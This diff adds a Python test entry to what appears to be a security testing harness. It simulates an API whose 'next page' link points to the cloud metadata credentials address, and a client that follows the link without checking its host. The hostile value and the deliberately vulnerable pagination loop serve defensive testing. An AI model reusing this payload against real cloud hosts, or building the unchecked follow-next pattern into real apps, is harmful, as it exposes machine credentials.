@@ -1,0 +1,75 @@
+"""C13: an API's answer names the address of its next page, and the app fetches whatever it names.
+
+All goes through the proxy that the app's requests take, which stands for the API too: the metadata address itself is
+never dialled here.
+"""
+
+import json
+from typing import Any
+
+from backwatch.attack.authority import Authority
+from backwatch.attack.entries import Entry, run
+from backwatch.attack.servers import HostileServer
+from backwatch.attack.speakers.http import CREDENTIALS, Request, Web, answered
+
+FIRST = "http://stock.example/goods?page=1"
+SECOND = "http://stock.example/goods?page=2"
+METADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/shop"
+MOST_PAGES = 5
+
+
+class _Paged(Web):
+    """The proxy, and the API behind it."""
+
+    def answer(self, request: Request) -> bytes:
+        if b"169.254.169.254" in request.path:
+            return answered(CREDENTIALS)
+        after_first = METADATA if self.hostile else SECOND
+        follows = after_first if b"page=1" in request.path else None
+        return answered(json.dumps({"goods": ["apples"], "next": follows}).encode())
+
+
+class HttpNextPageElsewhere(Entry):
+    """On httpx, in an app that follows ``next`` without a look at its host."""
+
+    code = "C13"
+    attack = "names the cloud's metadata address as the next page of a list"
+    reference = "https://owasp.org/API-Security/editions/2023/en/0xaa-unsafe-consumption-of-apis/; ATT&CK T1552.005"
+    driver = "httpx"
+    notices = "a page without goods"
+    rule = "metadata-address"
+
+    @classmethod
+    def service(cls, authority: Authority) -> HostileServer:
+        """Honest yet."""
+        return _Paged(authority)
+
+    def work(self) -> None:
+        """Reads the list."""
+        self.meet()
+
+    def meet(self) -> object:
+        """The same: all pages."""
+        import ssl
+
+        import httpx
+
+        context = ssl.create_default_context(cafile=self.place.ca_file)
+        proxy = httpx.Proxy(f"https://localhost:{self.place.port}", ssl_context=context)
+        pages: list[Any] = []
+        following: str | None = FIRST
+        with httpx.Client(proxy=proxy, timeout=5) as client:
+            while following and len(pages) < MOST_PAGES:
+                pages.append(client.get(following).json())
+                following = pages[-1].get("next")
+        return pages
+
+    @classmethod
+    def succeeded(cls, service: HostileServer, got: object) -> bool:
+        """The app fetched the machine's credentials."""
+        del service
+        return "SecretAccessKey" in str(got)
+
+
+if __name__ == "__main__":
+    run(HttpNextPageElsewhere)
